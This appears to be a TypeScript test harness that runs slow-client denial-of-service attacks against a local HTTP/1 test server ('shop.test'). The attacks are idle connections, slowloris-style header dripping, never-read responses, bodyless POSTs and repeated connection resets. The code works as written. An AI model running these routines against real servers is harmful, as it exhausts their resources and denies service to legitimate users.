/** Clients of HTTP/1 that hold connections and give or take as little as they can. */
import type { Socket } from "node:net";
import { type AttackTarget, type BeginAttack, Crowd } from "./crowd.ts";

const head = "GET /small HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: slow\r\nX-Slow: ".split("");
/** Each client says a byte in so many milliseconds. */
const dripMs = 5_000;
const slices = 100;

/** Connects and says nothing. */
export const idle: BeginAttack = ({ port, clients }) => Crowd.gather({ port, clients, act: () => undefined });

/** A byte of a head now and then, and never its end. */
export const drip: BeginAttack = async ({ port, clients }) => {
  const places = new Map<Socket, number>();
  const crowd = await Crowd.gather({
    port,
    clients,
    act: (socket) => {
      places.set(socket, 0);
      socket.once("close", () => places.delete(socket));
      socket.write("G");
    },
  });
  let slice = 0;
  crowd.every(dripMs / slices, () => {
    slice = (slice + 1) % slices;
    let index = 0;
    for (const [socket, place] of places) {
      index += 1;
      if (index % slices !== slice) continue;
      places.set(socket, place + 1);
      socket.write(head[place + 1] ?? "x");
    }
  });
  return crowd;
};

const ask = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: shop.test\r\n\r\n`;

/** Asks for a long answer, and never reads it. */
export const unread: BeginAttack = ({ port, clients }) =>
  Crowd.gather({
    port,
    clients,
    act: (socket) => {
      socket.write(ask("/large"));
      // The first bytes only, to see the status.
      socket.once("data", () => socket.pause());
    },
  });

/** Announces a body, and sends none of it. */
export const bodyless: BeginAttack = ({ port, clients }) =>
  Crowd.gather({
    port,
    clients,
    act: (socket) => socket.write("POST /sink HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 100000\r\n\r\n"),
  });

/** Asks, and is gone with a reset before or while the answer comes; again and again. */
export const vanish: BeginAttack = ({ port, clients }: AttackTarget) =>
  Crowd.gather({
    port,
    clients,
    returnsAfterMs: 1_000,
    act: (socket, crowd) => {
      socket.write(ask("/large/slowly"));
      const timer = setTimeout(() => {
        crowd.note("vanished");
        socket.resetAndDestroy();
      }, Math.random() * 1_000);
      socket.once("close", () => clearTimeout(timer));
    },
  });
